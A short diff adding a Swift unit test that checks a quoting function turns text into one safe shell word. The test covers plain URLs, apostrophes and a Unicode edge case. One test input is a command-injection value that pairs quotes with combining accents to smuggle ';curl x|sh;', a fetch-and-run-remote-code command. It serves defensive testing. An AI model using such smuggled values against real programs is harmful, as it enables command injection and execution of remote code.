@@ -1,0 +1,15 @@
+import Testing
+
+@testable import Reports
+
+/// Words of a command that a reader may copy into a shell.
+struct ShellWordTests {
+    @Test(arguments: [
+        ("https://a.test/x", "'https://a.test/x'"), ("it's", #"'it'\''s'"#),
+        // A quotation mark with an accent after it is another character to Swift, and the same to a shell.
+        ("a'\u{301};curl x|sh;'\u{301}", "'a'\\''\u{301};curl x|sh;'\\''\u{301}'"),
+    ])
+    func isOneWordWhateverIsInIt(text: String, word: String) {
+        #expect(Array(TicketText.quoted(text).unicodeScalars) == Array(word.unicodeScalars))
+    }
+}
